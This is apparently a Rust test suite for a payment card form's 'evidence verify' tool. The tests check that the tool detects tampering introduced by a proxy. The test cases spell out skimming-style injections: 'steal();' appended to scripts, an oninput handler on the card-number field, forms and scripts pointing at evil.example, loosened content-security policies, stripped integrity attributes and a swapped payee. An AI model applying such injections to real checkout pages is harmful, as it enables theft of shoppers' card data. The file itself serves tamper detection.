//! `cardform evidence verify` names each change made between the service and the shopper.

use crate::changing_proxy::ReplyChange;
use crate::evidence::verified;
use crate::world::World;

/// Checks that each change is named, with its subject and the served value.
async fn each_is_named(world: &World, changes: &[(&str, ReplyChange, &str, &str)]) {
    let mut missed = Vec::new();
    for (name, change, what, served) in changes {
        let (code, said) = verified(world, *change, &[]).await;
        let named = said["differences"].as_array().unwrap().iter().any(|difference| {
            difference["what"].as_str().unwrap().starts_with(what)
                && difference["served"].as_str().unwrap().contains(served)
        });
        if code != Some(1) || !named {
            missed.push(format!("{name}: {code:?} {said}"));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_changed_script_or_style_sheet_is_named() {
    let changes: [(&str, ReplyChange, &str, &str); 7] = [
        (
            "script",
            |reply| {
                if reply.path.starts_with("/assets/browser-") {
                    reply.body.extend(b"steal();");
                }
            },
            "/assets/browser-",
            "",
        ),
        (
            "lazy script",
            |reply| {
                if reply.path.starts_with("/assets/saved-cards-") {
                    reply.body.extend(b"steal();");
                }
            },
            "/assets/saved-cards-",
            "",
        ),
        (
            "SDK",
            |reply| {
                if reply.path == "/sdk/cardform.js" {
                    reply.body.extend(b"steal();");
                }
            },
            "/sdk/cardform.js",
            "",
        ),
        (
            "script as text",
            |reply| {
                if reply.path.starts_with("/assets/browser-") {
                    reply.set("content-type", "text/plain");
                }
            },
            "content-type of /assets/browser-",
            "text/plain",
        ),
        (
            "style as text",
            |reply| {
                if reply.path.starts_with("/assets/style-") {
                    reply.set("content-type", "text/plain");
                }
            },
            "content-type of /assets/style-",
            "text/plain",
        ),
        (
            "source map",
            |reply| {
                if reply.path.starts_with("/assets/browser-") {
                    reply.add("sourcemap", "https://evil.example/map");
                }
            },
            "sourcemap of /assets/browser-",
            "evil.example",
        ),
        (
            "no nosniff",
            |reply| {
                if reply.path == "/sdk/cardform.js" {
                    reply.headers.remove("x-content-type-options");
                }
            },
            "x-content-type-options of /sdk/cardform.js",
            "",
        ),
    ];
    each_is_named(&World::new().await, &changes).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn each_element_that_was_added_is_named() {
    let changes: [(&str, ReplyChange, &str, &str); 8] = [
        (
            "script",
            |reply| {
                reply.replace(
                    "</head>",
                    "<script src=\"https://evil.example/x.js\"></script></head>",
                );
            },
            "document",
            "<script src=\"https://evil.example/x.js\">",
        ),
        (
            "style",
            |reply| reply.replace("</head>", "<style>#amount{display:none}</style></head>"),
            "document",
            "<style>#amount",
        ),
        (
            "refresh",
            |reply| {
                reply.replace(
                    "<head>",
                    "<head><meta http-equiv=\"refresh\" content=\"9;url=https://evil.example\">",
                );
            },
            "document",
            "<meta http-equiv",
        ),
        (
            "form",
            |reply| {
                reply.replace(
                    "<body>",
                    "<body><form action=\"https://evil.example\"><input></form>",
                );
            },
            "document",
            "<form action",
        ),
        (
            "action of our form",
            |reply| {
                reply.replace(
                    "<form class=\"card-form\"",
                    "<form action=\"https://evil.example\" class=\"card-form\"",
                );
            },
            "document",
            "<form action",
        ),
        (
            "base",
            |reply| reply.replace("<head>", "<head><base href=\"https://evil.example\">"),
            "document",
            "<base",
        ),
        (
            "iframe",
            |reply| reply.replace("<body>", "<body><iframe src=\"/x\"></iframe>"),
            "document",
            "<iframe",
        ),
        (
            "object",
            |reply| reply.replace("<body>", "<body><object data=\"/x\"></object>"),
            "document",
            "<object",
        ),
    ];
    each_is_named(&World::new().await, &changes).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn each_element_that_was_changed_is_named() {
    let changes: [(&str, ReplyChange, &str, &str); 6] = [
        (
            "embed",
            |reply| reply.replace("<body>", "<body><embed src=\"/x\">"),
            "document",
            "<embed",
        ),
        (
            "link",
            |reply| {
                reply.replace(
                    "</head>",
                    "<link rel=\"preload\" as=\"script\" href=\"/x.js\"></head>",
                );
            },
            "document",
            "<link rel=\"preload\"",
        ),
        (
            "event handler",
            |reply| {
                reply.replace(
                    "<input id=\"card-number\"",
                    "<input oninput=\"steal()\" id=\"card-number\"",
                );
            },
            "document",
            "oninput",
        ),
        (
            "text",
            |reply| reply.replace("Card number", "Card no."),
            "document",
            "Card no.",
        ),
        (
            "no integrity",
            |reply| reply.value("type=\"module\" src=\"", "/x.js"),
            "document",
            "/x.js",
        ),
        (
            "another form in the frame",
            |reply| {
                if reply.destination == "iframe" {
                    reply.replace("<body>", "<body><form action=\"https://evil.example\"></form>");
                }
            },
            "document in a frame",
            "<form action",
        ),
    ];
    each_is_named(&World::new().await, &changes).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_integrity_that_was_removed_or_changed_is_named() {
    let changes: [(&str, ReplyChange, &str, &str); 2] = [
        (
            "removed",
            |reply| {
                while reply.is_page() && reply.text().contains(" integrity=") {
                    reply.replace(" integrity=", " data-old=");
                }
            },
            "document",
            "<script type=\"module\"",
        ),
        (
            "changed",
            |reply| reply.value("integrity=\"", "sha384-AAAA"),
            "document",
            "sha384-AAAA",
        ),
    ];
    each_is_named(&World::new().await, &changes).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_changed_policy_is_named_by_its_directive() {
    let changes: [(&str, ReplyChange, &str, &str); 6] = [
        (
            "script",
            |reply| reply.policy("script-src 'self'", "script-src 'self' https://evil.example"),
            "script-src",
            "evil.example",
        ),
        (
            "any ancestor",
            |reply| reply.policy("frame-ancestors https://shop.example", "frame-ancestors *"),
            "frame-ancestors",
            "*",
        ),
        (
            "ancestors by scheme",
            |reply| reply.policy("frame-ancestors ", "frame-ancestors https: "),
            "frame-ancestors",
            "https: https://shop.example",
        ),
        (
            "no ancestors",
            |reply| reply.policy("frame-ancestors https://shop.example;", ""),
            "frame-ancestors",
            "",
        ),
        (
            "fonts",
            |reply| reply.policy("base-uri", "font-src https://evil.example; base-uri"),
            "font-src",
            "evil.example",
        ),
        (
            "two",
            |reply| reply.add("content-security-policy", "default-src *"),
            "content-security-policy",
            "2",
        ),
    ];
    each_is_named(&World::new().await, &changes).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn each_header_that_changes_what_browsers_do_is_named() {
    let mut changes: Vec<(&str, ReplyChange, &str, &str)> = vec![(
        "no nosniff",
        |reply| {
            if reply.is_page() {
                reply.headers.remove("x-content-type-options");
            }
        },
        "x-content-type-options",
        "",
    )];
    macro_rules! added {
        ($($name:literal: $value:literal),+ $(,)?) => {
            $(changes.push(($name, |reply| reply.add($name, $value), $name, $value));)+
        };
    }
    added! {
        "refresh": "5; url=https://evil.example",
        "link": "<https://evil.example/x.js>; rel=preload; as=script",
        "access-control-allow-origin": "*",
        "report-to": "{}",
        "nel": "{}",
        "service-worker-allowed": "/",
        "sourcemap": "https://evil.example",
        "content-security-policy-report-only": "default-src *",
    };
    changes.push((
        "cookie",
        |reply| reply.add("set-cookie", "evil=1; Path=/"),
        "set-cookie",
        "evil",
    ));
    changes.push((
        "another type",
        |reply| {
            if reply.is_page() {
                reply.set("content-type", "text/html; charset=utf-7");
            }
        },
        "content-type",
        "utf-7",
    ));
    each_is_named(&World::new().await, &changes).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn changed_data_of_the_page_are_named_by_their_path() {
    let changes: [(&str, ReplyChange, &str, &str); 6] = [
        (
            "card key",
            |reply| reply.value("\"x\":\"", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"),
            "card_key.x",
            "AAAAAAAA",
        ),
        (
            "path of the charge",
            |reply| reply.value("\"direct_charges\":\"", "/v1/pub/direct/chargez"),
            "service.direct_charges",
            "chargez",
        ),
        (
            "another service",
            |reply| reply.value("\"base\":\"", "https://evil.example"),
            "service.base",
            "evil.example",
        ),
        (
            "item",
            |reply| reply.value("\"itemName\":\"", "Nothing"),
            "intent.itemName",
            "",
        ),
        (
            "payee",
            |reply| reply.value("\"payee\":{\"name\":\"", "Evil"),
            "payee.name",
            "Evil",
        ),
        (
            "another member",
            |reply| {
                reply.replace(
                    "\"floating_labels\":false",
                    "\"floating_labels\":false,\"evil\":1",
                );
            },
            "evil",
            "1",
        ),
    ];
    each_is_named(&World::new().await, &changes).await;
}
